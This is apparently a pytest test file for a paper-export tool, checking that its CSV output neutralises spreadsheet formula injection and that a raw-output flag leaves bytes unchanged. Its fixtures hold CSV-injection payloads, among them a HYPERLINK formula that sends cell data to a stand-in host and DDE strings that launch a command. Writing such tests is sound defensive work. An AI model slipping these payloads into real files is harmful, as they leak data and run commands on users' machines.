"""Attacks on spreadsheets: a CSV cell that a spreadsheet would run as a formula.

OWASP's CSV injection advice: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading ``'``, so LibreOffice and Excel show it as text. ``--csv-raw``
writes the bytes as they are, for those who want them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from paperterm.cli import run
from paperterm.export import export_papers
from paperterm.model import Paper, Source

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


def paper(title: str, abstract: str, path: str = "page.txt") -> Paper:
    from paperterm.identity import paper_id

    return Paper(paper_id(title), title, (abstract,), (Source(path, 1, 1),), (), 0)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=list(FORMULAS))
def test_a_formula_in_a_title_is_written_as_text(formula: str) -> None:
    row = rows(export_papers([paper(formula, "plain")], "csv").text)[1]
    assert row[2].startswith("'")


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=list(FORMULAS))
def test_a_formula_in_an_abstract_is_written_as_text(formula: str) -> None:
    row = rows(export_papers([paper("A title", formula)], "csv").text)[1]
    assert row[3].startswith("'")


def test_a_formula_in_a_file_name_is_written_as_text() -> None:
    row = rows(export_papers([paper("A title", "x", path="=cmd|' /C calc'!A0")], "csv").text)[1]
    assert row[6].startswith("'=")


def test_csv_raw_writes_the_bytes(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    dump = tmp_path / "page.txt"
    dump.write_text(
        "Get trending papers in your email inbox!\n"
        + f"{FORMULAS['hyperlink']}\n=1+2 an abstract.\n",
        encoding="utf-8",
    )
    state = str(tmp_path / "s.json")
    assert run(["export", "--all", "-f", "csv", str(dump), "--state", state]) == 0
    assert rows(capsys.readouterr().out)[1][2] == "'" + FORMULAS["hyperlink"]
    assert run(["export", "--all", "-f", "csv", "--csv-raw", str(dump), "--state", state]) == 0
    assert rows(capsys.readouterr().out)[1][2:4] == [FORMULAS["hyperlink"], "=1+2 an abstract."]
    plain = rows(export_papers([paper("Plain: a = b", "x - y")], "csv").text)[1]
    assert plain[2:4] == ["Plain: a = b", "x - y"]
